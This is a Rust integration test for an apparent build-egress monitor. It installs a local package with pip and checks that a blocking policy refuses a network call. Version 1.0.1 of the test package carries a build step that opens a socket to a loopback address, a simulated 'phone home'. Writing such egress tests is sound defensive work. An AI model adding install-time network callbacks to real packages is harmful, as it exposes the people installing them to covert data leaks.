    let registry = buildwatch_tests::registry::LocalRegistry::start();
    let home = tmp.join("home");
    fs::create_dir_all(&home).unwrap();
    let listener = TcpListener::bind("127.0.0.9:0").unwrap();
    let port = listener.local_addr().unwrap().port();
    registry.publish_sdist("pyfmt", &sdist(&tmp, "pyfmt", "1.0.0", "    pass"));
    let pip = |version: &str, extra: &[&str]| {
        let target = tmp.join(&format!("site-{version}-{}", extra.len()));
        let env = [
            ("HOME", home.display().to_string()),
            ("PIP_DISABLE_PIP_VERSION_CHECK", "1".into()),
        ];
        let spec = format!("pyfmt=={version}");
        let index = format!("{}simple", registry.url());
        let cmd = [
            "python3",
            "-m",
            "pip",
            "install",
            "--no-cache-dir",
            "--index-url",
            &index,
            "--target",
            target.to_str().unwrap(),
            &spec,
        ];
        watch(&tmp, tmp.path(), &env, extra, &cmd)
    };
    let base = tmp.join("base.yaml");
    fs::write(&base, "allow_loopback: false\nfail_on: never\n").unwrap();
    let learned = tmp.join("learned.yaml");
    let w = pip(
        "1.0.0",
        &[
            "--policy",
            base.to_str().unwrap(),
            "--learn",
            learned.to_str().unwrap(),
        ],
    );
    assert_eq!(w.report["exit_code"], 0, "pip succeeded: {}", w.stderr());
    // Watched, not blocked: nothing may have left loopback, nor asked a resolver.
    for e in w.events() {
        assert_ne!(e["kind"], "dns", "pip asked a resolver: {e}");
        if let Some(a) = e[e["kind"].as_str().unwrap_or("")]["address"].as_str() {
            assert!(a.starts_with("127.") || a == "::1", "left loopback: {e}");
        }
    }
    let text = fs::read_to_string(&learned).unwrap();
    assert!(
        text.contains(&format!("127.0.0.1:{}", registry.port)),
        "{text}"
    );
    let block = tmp.join("block.yaml");
    fs::write(&block, format!("mode: block\n{text}")).unwrap();
    let w = pip("1.0.0", &["--policy", block.to_str().unwrap()]);
    assert_eq!(w.out.status.code(), Some(0), "{}", w.stderr());
    assert_eq!(w.report["exit_code"], 0);
    // 1.0.1's build phones home: refused in the kernel, and the run fails.
    registry.publish_sdist(
        "pyfmt",
        &sdist(
            &tmp,
            "pyfmt",
            "1.0.1",
            &format!(
                "    import socket\n    s = socket.socket()\n    s.settimeout(2)\n    \
                 print('phone-home', s.connect_ex(('127.0.0.9', {port})))"
            ),
        ),
    );
    let w = pip("1.0.1", &["--policy", block.to_str().unwrap()]);
    assert_eq!(w.out.status.code(), Some(86), "{}", w.stderr());
    let refused = w.finding("egress-refused");
    assert_eq!(refused["package"]["name"], "pyfmt", "{refused:#}");
    assert_eq!(refused["detail"]["address"], "127.0.0.9", "{refused:#}");
    drop(listener);
}
